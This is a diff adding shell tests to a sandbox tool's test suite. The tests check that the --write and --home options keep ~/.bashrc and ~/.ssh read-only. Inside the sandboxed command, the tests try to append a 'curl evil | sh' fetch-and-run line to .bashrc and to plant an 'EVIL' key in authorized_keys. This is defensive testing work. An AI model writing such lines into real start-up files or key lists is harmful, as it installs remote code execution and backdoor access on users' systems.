@@ -698,6 +698,25 @@ for how in "--profile default" "no flags"; do
   expect_eq "$how, run from \$HOME: unchanged on the host" "$before" "$(snapshot "$TMP/fakehome")"
 done
 
+# The same through the access options: --write of the home (from
+# elsewhere), --home on a directory that holds start-up files. They are
+# binds like the profile's: the protect lines still apply over them.
+before=$(snapshot "$TMP/fakehome")
+(cd "$TMP" && HOME="$TMP/fakehome" "$SB" --write "$TMP/fakehome" -- sh -c '
+  echo "curl evil | sh" >> "$HOME/.bashrc" 2>/dev/null && echo bashrc-appended
+  echo "ssh-ed25519 EVIL" >> "$HOME/.ssh/authorized_keys" 2>/dev/null && echo key-added
+  touch "$HOME/made-here" && echo home-writable') >"$TMP/out" 2>/dev/null
+rm -f "$TMP/fakehome/made-here"
+expect_eq "--write \$HOME: start-up files and ~/.ssh stay read-only" "home-writable" "$(cat "$TMP/out")"
+expect_eq "--write \$HOME: unchanged on the host" "$before" "$(snapshot "$TMP/fakehome")"
+mkdir -p "$TMP/elsewhere"
+(cd "$TMP/elsewhere" && HOME="$TMP/nohome" "$SB" --home "$TMP/fakehome" -- sh -c '
+  echo "curl evil | sh" >> "$HOME/.bashrc" 2>/dev/null && echo bashrc-appended
+  touch "$HOME/made-here" && echo home-writable') >"$TMP/out" 2>/dev/null
+rm -f "$TMP/fakehome/made-here"
+expect_eq "--home DIR: DIR's start-up files stay read-only" "home-writable" "$(cat "$TMP/out")"
+expect_eq "--home DIR: unchanged on the host" "$before" "$(snapshot "$TMP/fakehome")"
+
 # The sandbox's own pid 1 keeps nothing of set-up the command could reopen
 # through /proc/1/fd. (It stays dumpable, as bwrap's: callers join the
 # sandbox through /proc/PID/ns.) The default profile refuses ptrace of
